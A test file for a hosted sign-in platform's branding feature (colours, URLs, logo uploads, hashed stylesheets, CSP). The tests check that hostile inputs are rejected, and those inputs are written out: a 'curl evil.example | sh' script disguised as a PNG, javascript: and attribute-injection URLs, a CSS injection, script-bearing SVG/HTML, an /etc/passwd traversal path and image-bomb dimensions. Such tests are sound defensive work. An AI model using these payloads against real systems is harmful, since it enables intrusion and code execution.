/**
 * Branding over HTTP: the settings API (bad colours, bad URLs), the logo upload (bad, disguised and bomb
 * images refused with a readable reason), the hashed logo and stylesheet URLs (types, caching, another
 * project's logo), and the brand on hosted pages without weakening the CSP.
 */
import assert from "node:assert/strict";
import { testApp } from "../helpers/app.ts";
import { basic, seedProject } from "../helpers/oauth.ts";
import type { SeededProject } from "../helpers/identity.ts";
import { jpegOf, pngClaiming, pngOf, webpOf } from "../helpers/logos.ts";
import { CONTENT_SECURITY_POLICY } from "@/lib/http/middleware.ts";

const t = await testApp();
Deno.test.afterAll(() => t.close());

const shop = await seedProject(t.db.sql, { name: "Shop" });
const other = await seedProject(t.db.sql, { name: "Neighbour" });

async function call(method: string, path: string, p: SeededProject, body?: unknown) {
  const res = await t.app.request(path, {
    method,
    headers: {
      authorization: basic(p.clientId, p.secret),
      ...(body === undefined ? {} : { "content-type": "application/json" }),
    },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  return { res, body: await res.json() };
}

async function upload(p: SeededProject, bytes: Uint8Array, type: string) {
  const res = await t.app.request("/api/platform/branding/logo", {
    method: "PUT",
    headers: { authorization: basic(p.clientId, p.secret), "content-type": type },
    body: bytes.slice() as Uint8Array<ArrayBuffer>,
  });
  return { res, body: await res.json() };
}

Deno.test("branding API — fields are set, merged and shown; null removes one", async () => {
  const set = await call("PATCH", "/api/platform/branding", shop, {
    display_name: "Warung Sari",
    primary_color: "#1d4ed8",
    theme: "light",
    terms_url: "https://warung.example/terms",
    support_email: "help@warung.example",
  });
  assert.equal(set.res.status, 200, JSON.stringify(set.body));
  assert.equal(set.res.headers.get("cache-control"), "no-store");
  const removed = await call("PATCH", "/api/platform/branding", shop, { terms_url: null });
  assert.equal(removed.body.terms_url, undefined);
  const read = await call("GET", "/api/platform/branding", shop);
  assert.deepEqual(read.body, {
    display_name: "Warung Sari",
    primary_color: "#1d4ed8",
    theme: "light",
    support_email: "help@warung.example",
    logo: null,
  });
  assert.deepEqual((await call("GET", "/api/platform/branding", other)).body, { logo: null }, "per project");
});

Deno.test("branding API — bad colours and URLs are refused with the reason, nothing changes", async () => {
  const cases: [Record<string, unknown>, RegExp][] = [
    [{ primary_color: "#ffeb3b" }, /too light: white text on it has a contrast of 1\.\d+:1/],
    [{ primary_color: "red" }, /#rrggbb/],
    [{ primary_color: "#000; background: url(x)" }, /#rrggbb/],
    [{ terms_url: "javascript:alert(document.cookie)" }, /http\(s\)/],
    [{ privacy_url: "ftp://warung.example/privacy" }, /http\(s\)/],
    [{ privacy_url: 'https://x.example/"onmouseover="alert(1)' }, /http\(s\)/],
    [{ support_email: "help@" }, /support_email/],
    [{ theme: "sepia" }, /light, dark or auto/],
  ];
  const before = (await call("GET", "/api/platform/branding", shop)).body;
  for (const [change, reason] of cases) {
    const { res, body } = await call("PATCH", "/api/platform/branding", shop, change);
    assert.equal(res.status, 400, JSON.stringify(change));
    assert.match(body.detail ?? body.error_description ?? JSON.stringify(body), reason);
  }
  const unknown = await call("PATCH", "/api/platform/branding", shop, { logo: "x" });
  assert.equal(unknown.res.status, 400, "the logo is not a field here");
  assert.deepEqual((await call("GET", "/api/platform/branding", shop)).body, before);
});

Deno.test("logo upload — PNG, JPEG and WebP are stored and served at an immutable hashed URL", async () => {
  const cases: [Uint8Array, string, string][] = [
    [jpegOf(16, 8), "image/jpeg", "jpg"],
    [await webpOf(12, 12), "image/webp", "webp"],
    [pngOf(24, 12), "image/png", "png"],
  ];
  for (const [bytes, type, ext] of cases) {
    const { res, body } = await upload(shop, bytes, type);
    assert.equal(res.status, 200, JSON.stringify(body));
    assert.equal(body.logo.type, type);
    const path = new URL(body.logo.url).pathname;
    assert.match(path, new RegExp(`^/branding/${shop.id}/logo-[0-9a-f]{64}\\.${ext}$`));
    const served = await t.app.request(path);
    assert.equal(served.status, 200);
    assert.equal(served.headers.get("content-type"), type);
    assert.equal(served.headers.get("cache-control"), "public, max-age=31536000, immutable");
    assert.equal(served.headers.get("x-content-type-options"), "nosniff");
    assert.deepEqual(new Uint8Array(await served.arrayBuffer()), bytes);
  }
});

Deno.test("logo upload — bad, disguised and oversized images are refused with a readable message", async () => {
  const before = (await call("GET", "/api/platform/branding", shop)).body.logo;
  const script = new TextEncoder().encode("#!/bin/sh\ncurl evil.example | sh\n");
  const svg = new TextEncoder().encode(
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  );
  const html = new TextEncoder().encode("<!doctype html><script>alert(1)</script>");
  const truncated = pngOf(32, 32).slice(0, 60);
  const corrupt = pngOf(8, 8);
  corrupt[corrupt.length - 20] ^= 0xff;
  const big = new Uint8Array(300 * 1024);
  big.set(pngOf(1, 1));
  const cases: [Uint8Array, string, RegExp][] = [
    [script, "image/png", /PNG, JPEG or WebP image, and this file is none of them/],
    [svg, "image/svg+xml", /SVG is not accepted/],
    [html, "image/png", /none of them/],
    [pngClaiming(100_000), "image/png", /100000×100000 pixels; it may be at most 2048×2048/],
    [pngClaiming(4096), "image/png", /4096×4096/],
    [truncated, "image/png", /damaged/],
    [corrupt, "image/png", /damaged/],
    [jpegOf(4, 4), "image/png", /called image\/png but its contents are image\/jpeg/],
    [big, "image/png", /at most 256 KB/],
    [new Uint8Array(0), "image/png", /empty/],
  ];
  for (const [bytes, type, reason] of cases) {
    const { res, body } = await upload(shop, bytes, type);
    assert.equal(res.status, 400, `${reason}: ${JSON.stringify(body)}`);
    assert.match(JSON.stringify(body), reason);
  }
  assert.deepEqual(
    (await call("GET", "/api/platform/branding", shop)).body.logo,
    before,
    "the logo is unchanged",
  );
});

Deno.test("hashed URLs — another project's logo, an old hash or a wrong extension is 404", async () => {
  const mine = (await upload(shop, pngOf(5, 5), "image/png")).body.logo.url as string;
  const path = new URL(mine).pathname;
  const hash = /logo-([0-9a-f]{64})/.exec(path)![1];
  const notFound = async (p: string) => {
    const res = await t.app.request(p);
    assert.equal(res.status, 404, p);
    await res.body?.cancel();
  };
  await notFound(path.replace(shop.id, other.id));
  await notFound(path.replace(".png", ".jpg"));
  await notFound(path.replace(hash, "0".repeat(64)));
  await notFound(`/branding/${shop.id}/style-0000000000000000.css`);
  await notFound(`/branding/${shop.id}/..%2f..%2fetc%2fpasswd`);
  await notFound(`/branding/not-a-project/${path.split("/").pop()}`);
  await upload(shop, pngOf(6, 6), "image/png");
  await notFound(path); // replaced: the old URL names bytes no longer served
  const removed = await t.app.request("/api/platform/branding/logo", {
    method: "DELETE",
    headers: { authorization: basic(shop.clientId, shop.secret) },
  });
  assert.equal((await removed.json()).logo, null);
});

Deno.test("hosted pages — the sign-in page shows the brand through a hashed stylesheet, CSP unchanged", async () => {
  await call("PATCH", "/api/platform/branding", shop, {
    display_name: "Warung Sari",
    primary_color: "#1d4ed8",
    theme: "auto",
    privacy_url: "https://warung.example/privacy",
  });
  const logo = (await upload(shop, pngOf(40, 20), "image/png")).body.logo.url as string;
  const query = new URLSearchParams({
    client_id: shop.clientId,
    redirect_uri: shop.redirectUri,
    response_type: "code",
    code_challenge: "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM",
    code_challenge_method: "S256",
  });
  const res = await t.app.request(`/auth/login?${query}`, { headers: { accept: "text/html" } });
  assert.equal(res.status, 200);
  assert.equal(res.headers.get("content-security-policy"), CONTENT_SECURITY_POLICY);
  assert.match(CONTENT_SECURITY_POLICY, /style-src 'self';/);
  const html = await res.text();
  assert.ok(!/\sstyle="/.test(html), "no inline style attribute");
  assert.ok(!/<style/.test(html), "no style element");
  assert.match(html, /<title>[^<]*· Warung Sari<\/title>/);
  assert.ok(html.includes(`src="${new URL(logo).pathname}"`), "the logo");
  assert.match(html, /href="https:\/\/warung\.example\/privacy"/);
  const sheet = /<link rel="stylesheet" href="(\/branding\/[^"]+\.css)"/.exec(html)?.[1];
  assert.ok(sheet, "the project's stylesheet");
  const css = await t.app.request(sheet);
  assert.equal(css.status, 200);
  assert.equal(css.headers.get("content-type"), "text/css; charset=utf-8");
  assert.equal(css.headers.get("cache-control"), "public, max-age=31536000, immutable");
  const text = await css.text();
  assert.match(text, /--accent: #1d4ed8; --accent-fg: #ffffff;/);
  assert.match(text, /prefers-color-scheme: dark/);
  // A change of colour is a new URL; the old one stops answering.
  await call("PATCH", "/api/platform/branding", shop, { primary_color: "#0f5132" });
  const again = await (await t.app.request(`/auth/login?${query}`, { headers: { accept: "text/html" } }))
    .text();
  const newSheet = /<link rel="stylesheet" href="(\/branding\/[^"]+\.css)"/.exec(again)?.[1];
  assert.notEqual(newSheet, sheet);
  assert.equal((await t.app.request(sheet)).status, 404);
  // Another project's pages carry none of it.
  const plain = await (await t.app.request(
    `/auth/login?${new URLSearchParams({
      ...Object.fromEntries(query),
      client_id: other.clientId,
      redirect_uri: other.redirectUri,
    })}`,
    { headers: { accept: "text/html" } },
  )).text();
  assert.ok(!plain.includes("/branding/"), "no brand on another project's page");
});

Deno.test("hosted pages — every page of the flow carries the brand from the one layout", async () => {
  await call("PATCH", "/api/platform/branding", shop, {
    display_name: "Warung Sari",
    primary_color: "#1d4ed8",
  });
  const login = new URLSearchParams({ client_id: shop.clientId, redirect_uri: shop.redirectUri, state: "s" });
  const pages = [
    `/auth/login?${login}`,
    `/auth/signup?${login}`,
    `/auth/forgot?${login}`,
    `/auth/reset?${login}&token=expired`,
    `/auth/mfa?${login}`,
    `/auth/mfa/manage?${login}`,
    `/auth/logout?client_id=${shop.clientId}`,
    `/auth/verify?client_id=${shop.clientId}&confirmed=1`,
    `/auth/verify?client_id=${shop.clientId}&token=not-a-token`,
  ];
  for (const path of pages) {
    const res = await t.app.request(path, { headers: { accept: "text/html" } });
    const html = await res.text();
    assert.match(
      html,
      /<header class="brand-bar">.*<span class="brand-name">Warung Sari<\/span><\/header>/,
      path,
    );
    assert.match(
      html,
      new RegExp(`<link rel="stylesheet" href="/branding/${shop.id}/style-[0-9a-f]{16}\\.css"/>`),
      path,
    );
    assert.equal(res.headers.get("content-security-policy"), CONTENT_SECURITY_POLICY, path);
  }
  const unbranded = await (await t.app.request("/", { headers: { accept: "text/html" } })).text();
  assert.ok(!unbranded.includes("brand-bar"), "Astapa's own pages carry no project brand");
});
